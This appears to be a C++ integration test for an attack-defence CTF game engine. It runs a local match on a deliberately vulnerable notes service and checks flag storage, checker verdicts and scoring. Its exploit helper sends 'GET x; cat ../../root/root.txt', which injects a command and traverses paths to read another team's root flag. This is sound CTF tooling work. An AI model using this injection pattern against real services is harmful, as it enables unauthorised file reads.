#include <doctest.h>

#include <adctf/engine.hpp>
#include <adctf/environment.hpp>
#include <adctf/runtime_local.hpp>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "test_support.hpp"

using namespace adctf;

namespace {

MatchConfig live_config() {
    MatchConfig cfg;
    cfg.match_id = "live";
    cfg.teams = {{1, "crimson", ""}, {2, "cobalt", ""}};
    MachineSpec m;
    m.name = "echo-notes";
    m.difficulty = 1;
    m.checker = testutil::echo_notes_checker();
    m.service_user = "notes";
    cfg.machines = {m};
    cfg.round_interval_ms = 2 * second_ms;
    cfg.time_limit_ms = 60 * second_ms;
    cfg.rng_seed = 4242;
    return cfg;
}

ManifestCatalog live_catalog() {
    ScenarioManifest m;
    m.machine = "echo-notes";
    m.difficulty = 1;
    m.image = "adctf/echo-notes:latest";
    m.service_ports = {4000};
    m.service_user = "notes";
    m.checker_command = testutil::echo_notes_checker();
    m.checker_timeout_ms = 5 * second_ms;
    return {{"echo-notes", m}};
}

// Minimal exploit client: command injection in GET walks out of the notes
// directory and reads the root flag.
std::string exploit_read(const std::string& host, int port, const std::string& rel_path) {
    int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    REQUIRE(fd >= 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(port));
    addr.sin_addr.s_addr = inet_addr(host.c_str());
    REQUIRE(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) == 0);
    std::string cmd = "GET x; cat " + rel_path + "\n";
    ::send(fd, cmd.data(), cmd.size(), MSG_NOSIGNAL);
    std::string out;
    char buf[512];
    for (;;) {
        ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
        if (n <= 0) break;
        out.append(buf, static_cast<std::size_t>(n));
        if (out.find("END\n") != std::string::npos) break;
    }
    ::close(fd);
    auto end = out.find("END\n");
    if (end != std::string::npos) out.resize(end);
    while (!out.empty() && out.back() == '\n') out.pop_back();
    return out;
}

} // namespace

TEST_CASE("live local match: real service, real checker, real exploit") {
    auto cfg = live_config();
    LocalProcessRuntime runtime({{"adctf/echo-notes:latest", testutil::echo_notes_service()}});
    ContainerEnvironment env(cfg, live_catalog(), runtime);
    SystemClock clock;
    Engine engine(cfg, clock);

    engine.start(env);
    REQUIRE(engine.phase() == MatchPhase::Running);
    REQUIRE(env.handles().size() == 2);

    // flags are on disk at the canonical paths
    for (const auto& f : engine.flag_store().flags())
        for (const auto& h : env.handles())
            if (h.team == f.owner_team) {
                std::ifstream in(runtime.rootfs(h.container_id) + f.path);
                REQUIRE(in.good());
                std::string tok;
                std::getline(in, tok);
                CHECK(tok == f.token);
            }

    // round 0: both services healthy through the real checker
    engine.run_next_round(env.backend());
    auto snap = engine.snapshot();
    for (const auto& t : snap->teams)
        for (const auto& m : t.machines) {
            CHECK(m.status == Verdict::Ok);
            CHECK(m.score == 13);
        }

    const EnvironmentHandle* victim = nullptr;
    for (const auto& h : env.handles())
        if (h.team == 2) victim = &h;
    REQUIRE(victim != nullptr);

    // corrupting the user flag flips the next check to CORRUPT
    std::string user_token;
    for (const auto& f : engine.flag_store().flags())
        if (f.owner_team == 2 && f.kind == FlagKind::User) user_token = f.token;
    const std::string user_path = runtime.rootfs(victim->container_id) + "/home/notes/user.txt";
    {
        std::ofstream out(user_path, std::ios::trunc);
        out << "tampered\n";
    }
    engine.run_next_round(env.backend());
    snap = engine.snapshot();
    for (const auto& t : snap->teams)
        for (const auto& m : t.machines)
            CHECK(m.status == (t.team_id == 2 ? Verdict::Corrupt : Verdict::Ok));

    // restoring it recovers to OK
    {
        std::ofstream out(user_path, std::ios::trunc);
        out << user_token << "\n";
    }
    engine.run_next_round(env.backend());
    snap = engine.snapshot();
    for (const auto& t : snap->teams)
        for (const auto& m : t.machines) CHECK(m.status == Verdict::Ok);

    // a stopped service checks as DOWN, a restarted one recovers
    runtime.stop_container(victim->container_id);
    engine.run_next_round(env.backend());
    snap = engine.snapshot();
    for (const auto& t : snap->teams)
        for (const auto& m : t.machines)
            CHECK(m.status == (t.team_id == 2 ? Verdict::Down : Verdict::Ok));
    runtime.start_container(victim->container_id);

    // the intended exploit: injection reads the opponent's root flag, and the
    // single-machine capture is a root sweep
    std::string stolen = exploit_read(victim->ip, victim->port, "../../root/root.txt");
    CHECK(stolen.rfind("FLAG{", 0) == 0);
    auto rec = engine.submit_flag(1, stolen);
    CHECK(rec.outcome == SubmissionOutcome::AcceptedRoot);
    CHECK(engine.phase() == MatchPhase::Ended);
    CHECK(engine.end_reason() == EndReason::RootSweep);

    auto totals = engine.totals();
    CHECK(totals.at({1, "echo-notes"}) == 4 * 13 + 200); // four clean rounds + root capture
    CHECK(totals.at({2, "echo-notes"}) == 13 - 10 + 13 - 5);
    env.teardown();
}
